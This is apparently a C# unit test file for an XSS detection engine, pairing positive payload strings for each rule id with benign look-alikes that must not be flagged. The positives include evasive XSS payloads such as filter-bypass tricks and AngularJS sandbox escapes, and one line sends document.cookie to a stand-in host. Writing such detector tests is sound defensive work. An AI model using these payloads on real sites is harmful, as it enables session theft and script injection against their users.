using InfiniteSecurity.Detection;

namespace InfiniteSecurity.Detection.UnitTests.Rules;

/// <summary>
/// One positive and one look-alike case per XSS rule id (src/Detection/Html/XssRules.cs). Positives must report the
/// rule; look-alikes must neither report the rule nor be flagged.
/// </summary>
[TestFixture]
public sealed class XssRuleTests
{
    [TestCase("xss.script_tag", "<ScRiPt >confirm(3)</script >", TestName = "xss.script_tag positive: mixed case with spaces")]
    [TestCase("xss.script_end_tag", "q=</script >x", TestName = "xss.script_end_tag positive: end tag alone")]
    [TestCase("xss.event_handler", "<zz-card onpointerdown=confirm(1)>", TestName = "xss.event_handler positive: custom element")]
    [TestCase("xss.event_handler", "<q2/onauxclick=print()/>", TestName = "xss.event_handler positive: slash separators and digit in tag name")]
    [TestCase("xss.event_handler", "<img src=1\nonerror\t=\nprompt(2)>", TestName = "xss.event_handler positive: newlines and tabs around equals")]
    [TestCase("xss.empty_event_handler", "<b onclick>x</b>", TestName = "xss.empty_event_handler positive: handler without value")]
    [TestCase("xss.attribute_breakout", "zz\" onpointerover=\"confirm(4)", TestName = "xss.attribute_breakout positive: double quote then handler")]
    [TestCase("xss.attribute_breakout", "q' onfocusin=top.prompt(5) autofocus='", TestName = "xss.attribute_breakout positive: single quote then handler")]
    [TestCase("xss.script_url_attribute", "<a href=\"j&#x61;va\tscr&#105;pt&colon;confirm(6)\">k</a>", TestName = "xss.script_url_attribute positive: entities and tab in scheme")]
    [TestCase("xss.script_url_attribute", "<math><mi xlink:href=VBScript:msgbox(7)>m", TestName = "xss.script_url_attribute positive: namespaced href and vbscript")]
    [TestCase("xss.srcdoc", "<iframe srcdoc='<b onmouseenter=confirm(8)>b'>", TestName = "xss.srcdoc positive: nested document")]
    [TestCase("xss.active_content_tag", "<embed src=//files.example/m.swf>", TestName = "xss.active_content_tag positive: embed with source")]
    [TestCase("xss.bare_active_content_tag", "before<isindex>after", TestName = "xss.bare_active_content_tag positive: isindex")]
    [TestCase("xss.external_script_resource", "<link rel=stylesheet href=//cdn.example/s.css>", TestName = "xss.external_script_resource positive: remote stylesheet")]
    [TestCase("xss.animated_attribute", "<svg><set attributeName=href to=x>", TestName = "xss.animated_attribute positive: set rewrites href")]
    [TestCase("xss.meta_header", "<meta http-equiv=Set-Cookie content=\"sid=1\">", TestName = "xss.meta_header positive: set-cookie")]
    [TestCase("xss.meta_refresh", "<meta http-equiv=refresh content='1; url=javascript:confirm(9)'>", TestName = "xss.meta_refresh positive: refresh to script URL")]
    [TestCase("xss.rawtext_breakout", "<xmp><p id=\"</xmp><svg onload=confirm(10)>\">", TestName = "xss.rawtext_breakout positive: closes xmp inside a value")]
    [TestCase("xss.template_directive", "<span v-html=\"bio\"></span>", TestName = "xss.template_directive positive: v-html")]
    [TestCase("xss.css_expression", "<p style=\"left:expression(confirm(11))\">", TestName = "xss.css_expression positive: expression()")]
    [TestCase("xss.css_script_url", "<style>i{cursor:url('java\\73 cript:confirm(28)')}</style>", TestName = "xss.css_script_url positive: CSS escape inside url()")]
    [TestCase("xss.css_script_url", "<style>@import url(//css.example/t.css);</style>", TestName = "xss.css_script_url positive: remote import")]
    [TestCase("xss.split_script_scheme", "go=jav%0Dascript:prompt(29)", TestName = "xss.split_script_scheme positive: carriage return inside the scheme")]
    [TestCase("xss.script_end_tag", "</script><b>x</b><script>", TestName = "xss.script_end_tag positive: end tag before a new script")]
    [TestCase("xss.script_url", "next=javascript:top.confirm(12)", TestName = "xss.script_url positive: redirect parameter")]
    [TestCase("xss.script_url", "[tap here](JavaScript:prompt(13))", TestName = "xss.script_url positive: Markdown link")]
    [TestCase("xss.data_html_url", "go=data:text/html,<i>x</i>", TestName = "xss.data_html_url positive: data URL with HTML")]
    [TestCase("xss.js_string_breakout", "x';confirm(14);//", TestName = "xss.js_string_breakout positive: single quote breakout")]
    [TestCase("xss.js_string_breakout", "q\\\"-prompt(15)-\\\"", TestName = "xss.js_string_breakout positive: escaped double quote")]
    [TestCase("xss.js_sink_call", "confirm`16`", TestName = "xss.js_sink_call positive: tagged template")]
    [TestCase("xss.js_sink_call", "${prompt(17)}", TestName = "xss.js_sink_call positive: template substitution")]
    [TestCase("xss.sink_alias", "<svg onload=\"[18].map(confirm)\">", TestName = "xss.sink_alias positive: sink passed as callback")]
    [TestCase("xss.computed_sink_call", "parent['con'+'firm'](19)", TestName = "xss.computed_sink_call positive: computed member of a global")]
    [TestCase("xss.computed_sink_call", "(prompt)(20)", TestName = "xss.computed_sink_call positive: parenthesised sink")]
    [TestCase("xss.function_constructor", "[].at.constructor('confirm(21)')()", TestName = "xss.function_constructor positive: constructor of a method")]
    [TestCase("xss.function_constructor", "Function(\"prompt(22)\")()", TestName = "xss.function_constructor positive: Function called")]
    [TestCase("xss.encoded_payload_eval", "eval(atob('cHJvbXB0KDIzKQ'))", TestName = "xss.encoded_payload_eval positive: eval of atob")]
    [TestCase("xss.dynamic_import", "import('//mod.example/a.mjs')", TestName = "xss.dynamic_import positive: remote module")]
    [TestCase("xss.concatenated_sink", "a='pro';b='mpt';self[a+b](24)", TestName = "xss.concatenated_sink positive: pieces in variables")]
    [TestCase("xss.symbol_only_script", "[][(![]+[])[+!+[]]+(!![]+[])[+[]]]", TestName = "xss.symbol_only_script positive: JSFuck fragment")]
    [TestCase("xss.client_template", "{{x.constructor.constructor('confirm(25)')()}}", TestName = "xss.client_template positive: AngularJS sandbox escape")]
    [TestCase("xss.client_template", "{{$emit.constructor('prompt(26)')()}}", TestName = "xss.client_template positive: scope object constructor")]
    [TestCase("xss.dom_injection", "s=document.createElement('script');s.src=u", TestName = "xss.dom_injection positive: script element from script")]
    [TestCase("xss.dom_source_to_sink", "setTimeout(location.hash.slice(1))", TestName = "xss.dom_source_to_sink positive: hash to setTimeout")]
    [TestCase("xss.dom_sink_assignment", "el.innerHTML = q", TestName = "xss.dom_sink_assignment positive: innerHTML")]
    [TestCase("xss.location_assignment", "';top.location='//collect.example/';//", TestName = "xss.location_assignment positive: off-site location")]
    [TestCase("xss.location_assignment", "location = window.name", TestName = "xss.location_assignment positive: window name source")]
    [TestCase("xss.cookie_exfiltration", "new Image().src='//c.example/?'+document['cookie']", TestName = "xss.cookie_exfiltration positive: bracket access joined into a URL")]
    [TestCase("xss.script_tag_mention", "Embed code with the <script> tag in the page head", TestName = "xss.script_tag_mention positive: weak evidence for the element named in prose")]
    [TestCase("xss.carrier_tag", "<svg width=9>", TestName = "xss.carrier_tag positive: weak evidence for svg with attributes")]
    [TestCase("xss.script_scheme", "javascript: notes", TestName = "xss.script_scheme positive: weak evidence for a scheme without code")]
    [TestCase("xss.inline_sink_call", "hello confirm(27)", TestName = "xss.inline_sink_call positive: weak evidence for a sink call after a word")]
    public void Rule_fires(string ruleId, string input)
    {
        var analysis = AnalyzerFactory.Shared.Analyze(input);
        Assert.That(analysis.PatternsMatched, Does.Contain(ruleId), $"{input} -> {string.Join(", ", analysis.PatternsMatched)}");
    }

    [TestCase("xss.script_tag", "Embed code with the <script> tag in the page head", TestName = "xss.script_tag benign: the element named in prose")]
    [TestCase("xss.event_handler", "The onclick handler runs when the user clicks", TestName = "xss.event_handler benign: handler named in prose")]
    [TestCase("xss.attribute_breakout", "online=true&onsale=yes", TestName = "xss.attribute_breakout benign: on-words in a query string")]
    [TestCase("xss.script_url_attribute", "<a href=\"javascript:void(0)\">menu</a>", TestName = "xss.script_url_attribute benign: void link target")]
    [TestCase("xss.script_url", "Patterns for javascript: modules and closures", TestName = "xss.script_url benign: language name with a colon")]
    [TestCase("xss.active_content_tag", "Jane Roe <jane.roe@example.net>", TestName = "xss.active_content_tag benign: mail address in angle brackets")]
    [TestCase("xss.bare_active_content_tag", "Docs for the <object> element and its fallbacks", TestName = "xss.bare_active_content_tag benign: element named in prose")]
    [TestCase("xss.carrier_tag", "Dictionary<string, List<int>> map", TestName = "xss.carrier_tag benign: generic types")]
    [TestCase("xss.js_sink_call", "Confirm (y/n) before deleting", TestName = "xss.js_sink_call benign: word then parenthesis")]
    [TestCase("xss.js_sink_call", "print(\"done\")", TestName = "xss.js_sink_call benign: python print")]
    [TestCase("xss.sink_alias", "Shows a dialog (alert) on error", TestName = "xss.sink_alias benign: word in parentheses")]
    [TestCase("xss.computed_sink_call", "items[0](x) and rows[2]", TestName = "xss.computed_sink_call benign: indexed call on a local")]
    [TestCase("xss.function_constructor", "var f = function (a) { return a; };", TestName = "xss.function_constructor benign: function expression")]
    [TestCase("xss.concatenated_sink", "{\"pe\":\"val\",\"al\":\"ert\"}", TestName = "xss.concatenated_sink benign: JSON members")]
    [TestCase("xss.client_template", "Hello {{ user.firstName }}, you have {{ count }} items", TestName = "xss.client_template benign: placeholders")]
    [TestCase("xss.location_assignment", "?location=Lisbon&units=metric", TestName = "xss.location_assignment benign: location parameter")]
    [TestCase("xss.cookie_exfiltration", "Reads document.cookie values safely", TestName = "xss.cookie_exfiltration benign: API named in prose")]
    [TestCase("xss.symbol_only_script", "see [1]() and [2]() in the notes", TestName = "xss.symbol_only_script benign: empty Markdown links")]
    [TestCase("xss.css_script_url", "<style>p{background:url('/img/bg.png')}</style>", TestName = "xss.css_script_url benign: local image in CSS")]
    [TestCase("xss.split_script_scheme", "Topics: java\nscript languages", TestName = "xss.split_script_scheme benign: words on two lines")]
    [TestCase("xss.css_expression", "a regular expression (regex) for dates", TestName = "xss.css_expression benign: the word expression")]
    [TestCase("xss.carrier_tag", "if a < b and c > d then swap", TestName = "xss.carrier_tag benign: comparisons")]
    public void Look_alike_stays_benign(string ruleId, string input)
    {
        var analysis = AnalyzerFactory.Shared.Analyze(input);
        Assert.Multiple(() =>
        {
            Assert.That(analysis.PatternsMatched, Does.Not.Contain(ruleId), input);
            Assert.That(analysis.IsThreat, Is.False, $"{input} -> {analysis.Category} {string.Join(", ", analysis.PatternsMatched)}");
        });
    }

    [Test]
    public void Every_xss_rule_has_a_positive_case()
    {
        var covered = typeof(XssRuleTests).GetMethod(nameof(Rule_fires))!
            .GetCustomAttributes(typeof(TestCaseAttribute), false).Cast<TestCaseAttribute>()
            .Select(a => (string)a.Arguments[0]!).ToHashSet();
        var rules = Detection.Rules.RuleCatalogue.Default.Rules.Where(r => r.Family == ThreatCategory.Xss).Select(r => r.Id);
        Assert.That(rules.Where(id => !covered.Contains(id)), Is.Empty);
    }
}
